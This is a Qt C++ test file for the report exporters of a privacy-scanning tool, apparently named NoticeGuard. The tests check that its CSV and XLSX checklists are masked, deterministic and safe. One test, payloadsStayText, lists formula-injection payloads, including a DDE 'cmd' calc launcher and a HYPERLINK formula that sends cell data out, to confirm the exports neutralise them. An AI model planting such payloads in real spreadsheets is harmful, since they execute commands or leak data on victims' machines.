// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: NoticeGuard contributors
#include "app/report/ChecklistCsv.h"
#include "app/report/ChecklistJson.h"
#include "app/report/ChecklistXlsx.h"
#include "app/report/NoticeWords.h"
#include "app/report/ScanJson.h"
#include "app/report/Words.h"
#include "tests/app/report/SampleScan.h"
#include "tests/app/report/ZipReader.h"

#include <QJsonDocument>
#include <QTemporaryDir>
#include <QXmlStreamReader>
#include <QtTest>

using namespace report;
using namespace tests;
using privacy::Disposition;

namespace {

const QDate kDay(2026, 11, 27);

QByteArray partOf(const ChecklistReport &report, const QString &part)
{
    const QTemporaryDir folder;
    QFile file(folder.filePath(QStringLiteral("list.xlsx")));
    const ocr::Result<QByteArray> bytes = checklistXlsx(report);
    if (!bytes || !file.open(QIODevice::WriteOnly) || file.write(*bytes) != bytes->size())
        return {};
    file.close();
    return tests::zipEntry(file.fileName(), part);
}

/// The texts of a worksheet's cells in order, through the shared strings.
QStringList cellTexts(const ChecklistReport &checklist, const QString &sheet)
{
    QStringList shared;
    QXmlStreamReader strings(partOf(checklist, QStringLiteral("xl/sharedStrings.xml")));
    while (!strings.atEnd()) {
        if (strings.readNext() == QXmlStreamReader::StartElement &&
            strings.name() == QLatin1String("t"))
            shared.append(strings.readElementText());
    }
    QStringList texts;
    QXmlStreamReader cells(partOf(checklist, sheet));
    while (!cells.atEnd()) {
        if (cells.readNext() == QXmlStreamReader::StartElement &&
            cells.name() == QLatin1String("v"))
            texts.append(shared.value(cells.readElementText().toInt()));
    }
    return texts;
}

} // namespace

class tst_checklist final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void listsWhatNeedsAction();
    void totalsDecideTheVerdict_data();
    void totalsDecideTheVerdict();
    void csvIsQuotedAndMarked();
    void csvFieldsAreNeverFormulas_data();
    void csvFieldsAreNeverFormulas();
    void xlsxHoldsTheSameCellsAsText();
    void xlsxLeadsFromNoticesToRowsAndBack();
    void xlsxShowsCoveredPictures();
    void payloadsStayText();
    void xlsxIsDeterministic();
    void noOutputHoldsARawValue();
    void noticesSumUpTheirRows();
    void everythingLooksAtOneNotice();
    void everyNoticeTypeHasWords();
    void fileNamesAreMasked_data();
    void fileNamesAreMasked();
    void everyCodeHasWords();
    void everyReasonHasASentence();
};

void tst_checklist::listsWhatNeedsAction()
{
    const Checklist list = checklistOf(wholeScan());
    using Kind = ChecklistRow::Kind;
    QList<Kind> kinds;
    for (const ChecklistRow &row : list.rows)
        kinds.append(row.kind);
    const QList<Kind> expected{Kind::Finding,         Kind::Finding,      Kind::UnreadPlace,
                               Kind::IncompleteSheet, Kind::SingleReader, Kind::NoText,
                               Kind::SourceError};
    QCOMPARE(kinds, expected);
    ChecklistTotals totals;
    totals.pages = 2;
    totals.exposed = totals.review = totals.permitted = totals.masked = totals.official = 1;
    totals.unreadPlaces = totals.incompleteSheets = totals.pagesWithoutText = 1;
    totals.singleReaderPages = totals.unreadSources = 1;
    QVERIFY(list.totals == totals);
    QCOMPARE(placeWords(list.rows[0]), QStringLiteral("row 4, column 3 (身份证号码)"));
    QCOMPARE(reasonWords(list.rows[6]),
             QStringLiteral("It is protected by a password. Save it without one and try again."));
}

void tst_checklist::totalsDecideTheVerdict_data()
{
    QTest::addColumn<ScanDocument>("scan");
    QTest::addColumn<bool>("isClean");
    ScanDocument clean;
    clean.pages = {cleanPage()};
    QTest::newRow("clean") << clean << true;
    QTest::newRow("nothing read") << ScanDocument() << false;
    ScanDocument scan = clean;
    scan.pages[0].judgement.findings = {finding(Disposition::Masked)};
    QTest::newRow("masked") << scan << true;
    scan.pages[0].judgement.findings = {finding(Disposition::Exposed)};
    QTest::newRow("exposed") << scan << false;
    scan.pages[0].judgement.findings = {finding(Disposition::Review)};
    QTest::newRow("review") << scan << false;
    scan = clean;
    scan.pages[0].page.unread = {ocr::Quad::fromRect(QRectF(0, 0, 9, 9))};
    QTest::newRow("unread place") << scan << false;
    scan = clean;
    scan.pages[0].page.sheets[0].incomplete = {ocr::Incomplete::Glare};
    QTest::newRow("glare") << scan << false;
    scan = clean;
    scan.pages[0].page.sheets[0].rowsRead = 0.99;
    QTest::newRow("a row unread") << scan << false;
    scan = clean;
    scan.pages[0].page.singleReader = true;
    QTest::newRow("one reader") << scan << false;
    scan = clean;
    scan.pages[0].page.lines.clear();
    QTest::newRow("no text") << scan << false;
    scan = clean;
    scan.errors = wholeScan().errors;
    QTest::newRow("a file unread") << scan << false;
    scan = clean;
    scan.interrupted = true;
    QTest::newRow("stopped") << scan << false;
}

void tst_checklist::totalsDecideTheVerdict()
{
    QFETCH(ScanDocument, scan);
    QFETCH(bool, isClean);
    const ChecklistTotals totals = totalsOf(scan);
    QCOMPARE(totals.nothingExposed(), isClean);
    QCOMPARE(verdictWords(totals) == QStringLiteral("Nothing exposed."), isClean);
    QVERIFY(!verdictWords(totals).isEmpty());
}

void tst_checklist::csvIsQuotedAndMarked()
{
    const QByteArray csv = checklistCsv(checklistOf(wholeScan()));
    QVERIFY(csv.startsWith(
        "\xEF\xBB\xBF\"File\",\"Page\",\"Sheet\",\"Place\",\"Type\",\"Masked value\",\"Result\","
        "\"Severity\",\"Reason\",\"Suggested action\"\r\n"));
    QVERIFY(csv.contains(
        "\r\n\"notice.jpg\",\"1\",\"1\",\"row 4, column 3 (身份证号码)\",\"ID card number\","
        "\"650101********0001\",\"Must be covered\",\"Critical\","
        "\"It stands under the header “身份证号码”. Its check digit is right.\","
        "\"Cover it, or show only a part.\"\r\n"));
    QVERIFY(csv.endsWith("\"Check this file yourself, or bring it in another form.\"\r\n"));
    QCOMPARE(csv.count("\r\n"), 8);
    QCOMPARE(csv, checklistCsv(checklistOf(wholeScan())));
}

void tst_checklist::csvFieldsAreNeverFormulas_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("field");
    const auto row = [](const char *name, const QString &text, const QString &field) {
        QTest::newRow(name) << text << field;
    };
    row("plain", QStringLiteral("张*"), QStringLiteral("\"张*\""));
    row("empty", QString(), QStringLiteral("\"\""));
    row("quote", QStringLiteral("a\"b"), QStringLiteral("\"a\"\"b\""));
    row("equals", QStringLiteral("=1+1"), QStringLiteral("\"'=1+1\""));
    row("plus", QStringLiteral("+86"), QStringLiteral("\"'+86\""));
    row("minus", QStringLiteral("-1"), QStringLiteral("\"'-1\""));
    row("at", QStringLiteral("@SUM(A1)"), QStringLiteral("\"'@SUM(A1)\""));
    row("tab", QStringLiteral("\t=1"), QStringLiteral("\"'\t=1\""));
    row("return", QStringLiteral("\r=1"), QStringLiteral("\"'\r=1\""));
    row("line feed", QStringLiteral("\n=1"), QStringLiteral("\"'\n=1\""));
    row("after spaces", QStringLiteral("  =1"), QStringLiteral("\"'  =1\""));
    row("after a wide space", QStringLiteral("\u3000=1"), QStringLiteral("\"'\u3000=1\""));
    row("full-width equals", QStringLiteral("＝1"), QStringLiteral("\"'＝1\""));
    row("full-width plus", QStringLiteral("＋1"), QStringLiteral("\"'＋1\""));
    row("full-width minus", QStringLiteral("－1"), QStringLiteral("\"'－1\""));
    row("full-width at", QStringLiteral("＠A"), QStringLiteral("\"'＠A\""));
    row("inside", QStringLiteral("a=1"), QStringLiteral("\"a=1\""));
}

void tst_checklist::csvFieldsAreNeverFormulas()
{
    QFETCH(QString, text);
    QFETCH(QString, field);
    QCOMPARE(csvField(text), field);
}

void tst_checklist::xlsxHoldsTheSameCellsAsText()
{
    ScanDocument scan = wholeScan();
    scan.pages[0].judgement.findings[0].maskedText = QStringLiteral("=HYPERLINK(\"x\")");
    const ChecklistReport report = checklistReport(scan, kDay);
    QStringList expected = QStringList{QStringLiteral("No.")} + checklistColumns();
    const auto append = [&expected](const QStringList &cells) {
        for (const QString &cell : cells)
            if (!cell.isEmpty()) // a framed empty cell holds no value
                expected.append(cell);
    };
    for (qsizetype notice = 0; notice < report.notices.size(); ++notice) {
        for (const qsizetype row : report.notices[notice].rows)
            append(QStringList{noticeNumber(notice)} + checklistCells(report.checklist.rows[row]));
    }
    const QString rows = QStringLiteral("xl/worksheets/sheet3.xml");
    QCOMPARE(cellTexts(report, rows), expected);
    expected.clear();
    append(noticeColumns());
    for (qsizetype notice = 0; notice < report.notices.size(); ++notice)
        append(noticeCells(report, notice));
    const QString notices = QStringLiteral("xl/worksheets/sheet2.xml");
    QCOMPARE(cellTexts(report, notices), expected);
    for (const QString &part : {rows, notices}) {
        const QByteArray sheet = partOf(report, part);
        QVERIFY(sheet.contains("state=\"frozen\"") && sheet.contains("<autoFilter ref=\"A1:"));
        QVERIFY(sheet.contains("orientation=\"landscape\""));
        QVERIFY(!sheet.contains("<f>") && !sheet.contains("r:id=\"rId1\" ref"));
        QCOMPARE(sheet.count("t=\"s\""),
                 sheet.count("<v>")); // no number that a spreadsheet could round
        // Links stay in the workbook.
        QVERIFY(sheet.count("<hyperlink ") > 0);
        QCOMPARE(sheet.count("<hyperlink "), sheet.count("location=\"'"));
    }
    QVERIFY(partOf(report, QStringLiteral("xl/worksheets/_rels/sheet3.xml.rels")).isEmpty());
    const QStringList totals = cellTexts(report, QStringLiteral("xl/worksheets/sheet1.xml"));
    QCOMPARE(totals.value(0), verdictWords(report.checklist.totals));
    const qsizetype exposed = totals.indexOf(QStringLiteral("Must be covered"));
    QVERIFY(exposed > 0);
    QCOMPARE(totals.value(exposed + 1), QStringLiteral("1"));
}

void tst_checklist::xlsxLeadsFromNoticesToRowsAndBack()
{
    const ChecklistReport report = checklistReport(longScan(3), kDay);
    const QByteArray notices = partOf(report, QStringLiteral("xl/worksheets/sheet2.xml"));
    QVERIFY(notices.contains("<hyperlink ref=\"A2\" location=\"'Checklist'!A2\""));
    const QByteArray rows = partOf(report, QStringLiteral("xl/worksheets/sheet3.xml"));
    QVERIFY(rows.contains("<hyperlink ref=\"A7\" location=\"'Notices'!A2\""));
    // The status is chosen from a list.
    QVERIFY(notices.contains("<dataValidation type=\"list\""));
    QVERIFY(notices.contains("sqref=\"N2\""));
    QVERIFY(notices.contains("Not corrected,Being corrected,Corrected"));
}

void tst_checklist::xlsxShowsCoveredPictures()
{
    ChecklistReport report = checklistReport(manySheets(2), kDay);
    QVERIFY(partOf(report, QStringLiteral("xl/media/image1.jpeg")).isEmpty());
    QImage image(300, 400, QImage::Format_RGB888);
    image.fill(Qt::gray);
    report.pictures = {{QStringLiteral("/nowhere/2.jpg"), 1, 0, image}};
    const QByteArray picture = partOf(report, QStringLiteral("xl/media/image1.jpeg"));
    QCOMPARE(QImage::fromData(picture).size(), QSize(300, 400));
    const QByteArray drawing = partOf(report, QStringLiteral("xl/drawings/drawing1.xml"));
    QVERIFY(drawing.contains("<xdr:row>2</xdr:row>")); // beside the second notice
    QVERIFY(drawing.contains("No. 2"));
}

void tst_checklist::payloadsStayText()
{
    // OWASP's list of what spreadsheets compute, behind what readers and people may put before it.
    const QStringList payloads{QStringLiteral("=1+1"),
                               QStringLiteral("=cmd|' /C calc'!A0"),
                               QStringLiteral("=HYPERLINK(\"http://x/\"&A1,\"x\")"),
                               QStringLiteral("+1+1"),
                               QStringLiteral("-1+1"),
                               QStringLiteral("@SUM(1)"),
                               QStringLiteral("＝1+1"),
                               QStringLiteral("＋1"),
                               QStringLiteral("－1"),
                               QStringLiteral("＠SUM(1)"),
                               QStringLiteral("{=1+1}"),
                               QStringLiteral("internal:'Checklist'!A1"),
                               QStringLiteral("http://example.com/"),
                               QStringLiteral("mailto:a@b"),
                               QStringLiteral("%0A=1"),
                               QStringLiteral("0.0000001E+99"),
                               QStringLiteral("650101********0001"),
                               QStringLiteral("a\uFFFE\uFFFFb"),
                               QStringLiteral("\x01\x02=1"),
                               QString(QChar(0xD800))};
    const QStringList before{QString(),
                             QStringLiteral(" "),
                             QStringLiteral("\t"),
                             QStringLiteral("\r"),
                             QStringLiteral("\n"),
                             QStringLiteral("\u3000"),
                             QStringLiteral("\u00A0"),
                             QStringLiteral("'"),
                             QStringLiteral("\"")};
    ScanDocument scan = manySheets(1);
    const privacy::Finding first = scan.pages[0].judgement.findings[0];
    scan.pages[0].judgement.findings.clear();
    for (const QString &prefix : before) {
        for (const QString &payload : payloads) {
            privacy::Finding item = first;
            item.maskedText = prefix + payload;
            item.header = item.maskedText;
            scan.pages[0].judgement.findings.append(item);
        }
    }
    scan.pages[0].source = QStringLiteral("/nowhere/=1+1.jpg");
    const ChecklistReport report = checklistReport(scan, kDay);
    QVERIFY(report.checklist.rows.size() >= 180);
    for (const char *part :
         {"xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/sharedStrings.xml"}) {
        QXmlStreamReader xml(partOf(report, QLatin1String(part)));
        int cells = 0;
        while (!xml.atEnd()) {
            xml.readNext();
            QVERIFY(!xml.isStartElement() || xml.name() != QLatin1String("f"));
            cells += xml.isStartElement() &&
                     (xml.name() == QLatin1String("c") || xml.name() == QLatin1String("si"));
        }
        QVERIFY2(!xml.hasError(), qPrintable(xml.errorString()));
        QVERIFY(cells > 10);
    }
    static const QRegularExpression computed(
        QStringLiteral("(^|\r\n|,)\"[ \u3000\u00A0]*[=+\\-@\t\r\n＝＋－＠]"));
    QVERIFY(computed.match(QStringLiteral("a,\" =1\"")).hasMatch()); // the control
    QVERIFY(!computed.match(QString::fromUtf8(checklistCsv(report.checklist))).hasMatch());
}

void tst_checklist::xlsxIsDeterministic()
{
    const ChecklistReport report = checklistReport(wholeScan(), kDay);
    const ocr::Result<QByteArray> first = checklistXlsx(report);
    QVERIFY(first && first->size() > 2000);
    QTest::qSleep(1100); // another second, so that a time of writing would show
    const ocr::Result<QByteArray> second = checklistXlsx(report);
    QVERIFY(second);
    QCOMPARE(*second, *first);
}

void tst_checklist::noOutputHoldsARawValue()
{
    ScanDocument scan = wholeScan();
    scan.errors[0].source = QStringLiteral("/nowhere/") + kRawId + QStringLiteral(".pdf");
    // A list whose first row was taken for the header.
    scan.pages[0].judgement.findings[1].header = kRawId;
    scan.pages[0].judgement.findings[1].reasons = {QStringLiteral("header:") + kRawId};
    scan.pages[0].judgement.sheets = {{}};
    scan.pages[0].judgement.sheets[0].title = QStringLiteral("张建国低保公示");
    const ChecklistReport report = checklistReport(scan, kDay);
    const QByteArray rawId = kRawId.toUtf8();
    QByteArrayList outputs{checklistCsv(report.checklist)};
    for (const char *part :
         {"xl/sharedStrings.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml",
          "xl/workbook.xml", "docProps/core.xml", "docProps/app.xml"}) {
        outputs.append(partOf(report, QLatin1String(part)));
        QVERIFY2(!outputs.last().isEmpty(), part);
    }
    for (const QByteArray &output : outputs) {
        QVERIFY(!output.contains(rawId));
        QVERIFY(!output.contains("张建国")); // a title may be a name
    }
    const QByteArray masked("650101********0001"); // the control: values are there, masked
    QVERIFY(outputs[0].contains(masked) && outputs[1].contains(masked));
    const QByteArray json = QJsonDocument(checklistJson(report)).toJson();
    QVERIFY(json.contains(masked) && !json.contains("张建国"));
    // Sources are named there by their whole path, as in the scan itself.
    scan.errors.clear();
    const QByteArray ofPages = QJsonDocument(checklistJson(checklistReport(scan, kDay))).toJson() +
                               QJsonDocument(scanJson(scan)).toJson();
    QVERIFY(ofPages.contains(masked) && !ofPages.contains(rawId));
}

void tst_checklist::noticesSumUpTheirRows()
{
    ScanDocument scan = longScan(12);
    const ChecklistReport report = checklistReport(scan, kDay);
    QCOMPARE(report.notices.size(), 1);
    const ChecklistNotice &notice = report.notices[0];
    const QList<KindCount> kinds{{privacy::FindingType::ResidentId, 12, 0},
                                 {privacy::FindingType::Phone, 12, 0}};
    QVERIFY(notice.kinds == kinds);
    QCOMPARE(notice.exposed, 24);
    QCOMPARE(notice.people, 12);
    QCOMPARE(notice.faults, QStringList{QStringLiteral("M11")});
    QCOMPARE(notice.severity, privacy::Severity::Critical);
    QCOMPARE(notice.action, QStringLiteral("replace"));
    QCOMPARE(notice.rows.size(), report.checklist.rows.size());
    // Unverified citations are never printed as law.
    QCOMPARE(noticeBasisLines(notice).size(), 1);
    QVERIFY(noticeBasisLines(notice)[0].endsWith(
        QStringLiteral("Personal Information Protection Law), article 28")));
    QCOMPARE(exposedLines(notice), (QStringList{QStringLiteral("ID card number: 12"),
                                                QStringLiteral("Mobile number: 12")}));
    QVERIFY(noticeActionWords(notice, report.checklist).contains(QStringLiteral("Mobile number")));

    scan.pages[0].judgement.sheets[0].action = QStringLiteral("take_down");
    scan.pages[0].judgement.sheets[0].periodTo = kDay.addDays(-1);
    const ChecklistNotice old = checklistReport(scan, kDay).notices[0];
    QCOMPARE(old.action, QStringLiteral("take_down"));
    QVERIFY(old.faults.contains(QStringLiteral("M9")));
    // When people decided that nothing is exposed, the sheet's own judgement has no more say.
    scan.pages[0].judgement.findings.clear();
    QCOMPARE(checklistReport(scan, kDay).notices[0].action, QStringLiteral("none"));
}

void tst_checklist::everythingLooksAtOneNotice()
{
    const ChecklistReport report = checklistReport(wholeScan(), kDay);
    QVERIFY(report.checklist == checklistOf(wholeScan()));
    QCOMPARE(report.notices.size(), 3); // two pages and a file that could not be read
    QSet<qsizetype> rows;
    for (const ChecklistNotice &notice : report.notices)
        for (const qsizetype row : notice.rows)
            rows.insert(row);
    QCOMPARE(rows.size(), report.checklist.rows.size()); // each row once, none left out
    QCOMPARE(report.notices[0].notRead, 3);
    QCOMPARE(report.notices[1].action, QStringLiteral("check"));
    QCOMPARE(report.notices[2].action, QStringLiteral("read_again"));
    for (qsizetype i = 0; i < report.notices.size(); ++i)
        QCOMPARE(noticeCells(report, i).size(), noticeColumns().size());
    QCOMPARE(lookAtLines(report.notices[0], report.checklist).size(), 4);
}

void tst_checklist::everyNoticeTypeHasWords()
{
    const ocr::Result<privacy::RuleSet> rules =
        privacy::RuleSet::compile(privacy::RuleSet::builtInPacks());
    QVERIFY(rules);
    for (const QString &id : rules->noticeTypes())
        QVERIFY2(!noticeTypeWords(id).isEmpty(), qPrintable(id));
    QVERIFY(noticeTypeWords(QStringLiteral("no_such_type")).isEmpty());
    for (int fault = 1; fault <= 12; ++fault)
        if (fault != 5) // a see-through cover is for people to see
            QVERIFY(maskFaultWords(QStringLiteral("M%1").arg(fault)).size() > 4);
    for (const QString &status : statusChoices())
        QVERIFY(!status.contains(u','));
}

void tst_checklist::fileNamesAreMasked_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("shown");
    QTest::newRow("plain") << kSource << QStringLiteral("notice.jpg");
    QTest::newRow("camera") << QStringLiteral("/a/IMG_20240315_093000.jpg")
                            << QStringLiteral("IMG_20240315_093000.jpg");
    QTest::newRow("clock") << QStringLiteral("/a/1700000000000.jpg")
                           << QStringLiteral("1700000000000.jpg");
    QTest::newRow("ID") << QStringLiteral("/a/650101190001010001.jpg")
                        << QStringLiteral("6501****.jpg");
    QTest::newRow("ID with X") << QStringLiteral("/a/11010519491231002X.jpg")
                               << QStringLiteral("1101****.jpg");
    QTest::newRow("old ID") << QStringLiteral("/a/340524800101001.jpg")
                            << QStringLiteral("3405****.jpg");
    QTest::newRow("mobile") << QStringLiteral("/a/李13800138000.png")
                            << QStringLiteral("李1380****.png");
    QTest::newRow("turned") << QStringLiteral("/a/gpj\u202Efdp.exe")
                            << QStringLiteral("gpj fdp.exe");
}

void tst_checklist::fileNamesAreMasked()
{
    QFETCH(QString, path);
    QFETCH(QString, shown);
    QCOMPARE(shownFileName(path), shown);
}

void tst_checklist::everyCodeHasWords()
{
    for (int type = 0; type < privacy::kFindingTypeCount; ++type)
        QVERIFY2(!typeWords(static_cast<privacy::FindingType>(type)).isEmpty(),
                 qPrintable(QString::number(type)));
    for (int code = 0; code <= static_cast<int>(ocr::Error::Code::Internal); ++code)
        QVERIFY(!errorWords(static_cast<ocr::Error::Code>(code)).isEmpty());
    for (const char *code : {"mask", "remove", "leave_out_column", "check", "none"})
        QVERIFY(!actionWords(QLatin1String(code)).isEmpty());
    QVERIFY(reasonWords(QStringLiteral("no_such_reason")).isEmpty());
}

/// Reasons are strings, so that a new one is easily forgotten here: they are read from the sources
/// that give them.
void tst_checklist::everyReasonHasASentence()
{
    static const QRegularExpression literal(QStringLiteral("\"([a-z_]+(?::[a-z0-9_]+)?)\""));
    static const QRegularExpression reasonCode(QStringLiteral(
        "^(code|mark|mask|notice|minor|pattern|beside|hidden|missing|old_sheet):[a-z0-9_]+$"));
    static const QRegularExpression given(QStringLiteral("reasons\\.append\\(|letStand\\("));
    QSet<QString> codes{QStringLiteral("title:同志"),        QStringLiteral("label:户主"),
                        QStringLiteral("header:姓名"),       QStringLiteral("missing:period"),
                        QStringLiteral("hidden:name"),       QStringLiteral("missing:days:15"),
                        QStringLiteral("minor:under_14"),    QStringLiteral("readers_agree"),
                        QStringLiteral("one_reader"),        QStringLiteral("readers_differ"),
                        QStringLiteral("repaired"),          QStringLiteral("under:phone"),
                        QStringLiteral("overdue:2026-05-31")};
    for (int type = 0; type < privacy::kFindingTypeCount; ++type)
        codes.insert(QStringLiteral("code:") +
                     findingTypeName(static_cast<privacy::FindingType>(type)));
    QDir folder(QStringLiteral(NOTICEGUARD_SOURCE_DIR "/app/privacy"));
    for (const QString &name : folder.entryList({QStringLiteral("*.cpp"), QStringLiteral("*.h")})) {
        QFile file(folder.filePath(name));
        QVERIFY(file.open(QIODevice::ReadOnly));
        bool gives = false;
        for (const QString &line : QString::fromUtf8(file.readAll()).split(u'\n')) {
            gives = line.contains(given) || (gives && line.startsWith(QStringLiteral("        ")));
            for (auto it = literal.globalMatch(line); it.hasNext();) {
                const QString code = it.next().captured(1);
                if (reasonCode.match(code).hasMatch() || gives)
                    codes.insert(code);
            }
            gives = gives && !line.endsWith(u';') && !line.endsWith(u'{') && !line.endsWith(u'}');
        }
    }
    QVERIFY2(codes.size() > 60, "The sources' reasons were not found.");
    for (const QString &code : std::as_const(codes)) {
        const QString words = reasonWords(code);
        QVERIFY2(words.endsWith(u'.'), qPrintable(code));
        QVERIFY2(!words.contains(u'_'), qPrintable(code + QStringLiteral(": ") + words));
    }
}

QTEST_GUILESS_MAIN(tst_checklist)
#include "tst_checklist.moc"
